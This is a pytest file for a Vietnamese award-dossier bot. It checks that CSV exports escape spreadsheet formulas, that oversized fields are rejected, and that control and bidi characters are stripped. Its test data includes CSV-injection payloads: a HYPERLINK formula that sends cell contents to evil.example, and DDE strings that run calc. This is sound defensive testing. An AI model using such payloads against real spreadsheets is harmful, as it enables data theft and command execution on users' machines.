"""Poison input and safe exports: formulas in CSV, huge CSV fields, control and bidi characters."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from config.settings import Settings
from db.models import DossierInput
from domain.safe_text import clean_text, escape_formula, unescape_formula
from domain.statuses import Status
from handlers.importing.readers import parse_csv
from handlers.router import BotCore
from handlers.services import Services
from tests.cli import run_cli
from tests.conftest import ChatDriver
from tests.handlers.test_excel import HEADER_VN, csv_bytes, export
from tests.handlers.test_status_update import CODE, change, make_staff, seed_dossier

#: Names an attacker would register, each a formula to Excel or LibreOffice when raw.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
    "Nguyễn Văn An",
    "'Quote at the start is fine",
]


@pytest.mark.parametrize(
    "value", [*FORMULAS, "\tTAB", "\rCR", "=", "'", "", "a=b", "'''"], ids=repr
)
def test_escape_then_unescape_gives_the_value_back(value: str) -> None:
    escaped = escape_formula(value)
    assert unescape_formula(escaped) == value
    # What a spreadsheet sees never starts a formula.
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")


async def test_csv_export_escapes_every_formula_and_imports_back_unchanged(
    services: Services,
) -> None:
    rows = [
        DossierInput(
            code=f"000.00.21.H01-261110-{index + 1:04d}",
            award_kind="BKCT",
            nominee=name,
            unit=name,
            phone_last4="5678",
            received_on=date(2026, 11, 10),
            due_on=date(2026, 12, 2),
            status=Status.in_review,
            note=name,
        )
        for index, name in enumerate(FORMULAS)
    ]
    await services.dossiers.upsert_many(rows, actor="test", now=services.now())
    exported = await export(services, ".csv")
    cells = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    header, body = cells[0], cells[1:]
    for column in ("nominee", "unit", "note"):
        index = header.index(column)
        written = sorted(row[index] for row in body)
        assert written == sorted(escape_formula(name) for name in FORMULAS)
        assert not any(value[:1] in "=+-@\t\r" for value in written if value)
    again = parse_csv(exported, services.catalog, services.calendar)
    assert again.ok, again.errors
    assert sorted((row.code, row.nominee, row.unit, row.note) for row in again.rows) == sorted(
        (row.code, row.nominee, row.unit, row.note) for row in rows
    )
    counts = await services.dossiers.upsert_many(again.rows, actor="test", now=services.now())
    assert counts.unchanged == len(FORMULAS)


async def test_a_field_over_the_size_limit_is_a_line_numbered_error_and_nothing_is_written(
    services: Services, settings: Settings, tmp_path: Path
) -> None:
    good = ["000.00.21.H01-261110-0001", "BKCT", "Nguyễn Văn An", "", "", "2026-11-10"]
    huge = ["000.00.21.H01-261110-0002", "BKCT", "x" * 200_000, "", "", "2026-11-10"]
    after = ["000.00.21.H01-261110-0003", "BKCT", "Trần Thị Bình", "", "", "2026-11-10"]
    source = tmp_path / "lon.csv"
    source.write_bytes(csv_bytes(HEADER_VN[:6], [good, huge, after]))
    done = run_cli(settings, "import", str(source), cwd=tmp_path)
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "Dòng 3: Không đọc được dòng này: có ô dài quá 131.072 ký tự." in done.stderr
    assert "không ghi gì" in done.stderr
    assert await services.dossiers.count() == 0


async def test_control_and_bidi_characters_are_removed_on_import(services: Services) -> None:
    nasty = "Nguyễn\u202e Văn\x00 An\x1b[31m\u2066\u200f"
    note = "Dòng 1\r\nDòng\x07 2\u202d\tkết thúc"
    row = ["000.00.21.H01-261110-0001", "BKCT", nasty, "Sở\x1b]0;x\x07 Nội vụ", "", "2026-11-10"]
    header = [*HEADER_VN[:6], "ghi chú"]
    parsed = parse_csv(csv_bytes(header, [[*row, note]]), services.catalog, services.calendar)
    assert parsed.ok, parsed.errors
    (stored,) = parsed.rows
    assert stored.nominee == "Nguyễn Văn An"
    assert stored.unit == "Sở Nội vụ"
    assert stored.note == "Dòng 1\nDòng 2 kết thúc"


def test_clean_text_keeps_vietnamese_and_drops_poison() -> None:
    assert clean_text("Bà mẹ Việt Nam anh hùng") == "Bà mẹ Việt Nam anh hùng"
    assert clean_text("a\u202eb\u2069c\ud800d\x1b[1;31me\x7ff") == "abcdef"
    assert clean_text("một\nhai") == "một hai"
    assert clean_text("một\nhai", multiline=True) == "một\nhai"


async def test_control_and_bidi_characters_are_removed_in_chat(
    services: Services, core: BotCore
) -> None:
    await make_staff(services, "off1")
    await seed_dossier(services, status=Status.in_review)
    officer = ChatDriver(core, "console", "off1")
    await change(officer, Status.passed, "Hội đồng\u202e đồng ý\x1b[2J\x00 đề nghị")
    stored = await services.dossiers.get_by_code(CODE)
    assert stored is not None
    assert stored.note == "Hội đồng đồng ý đề nghị"
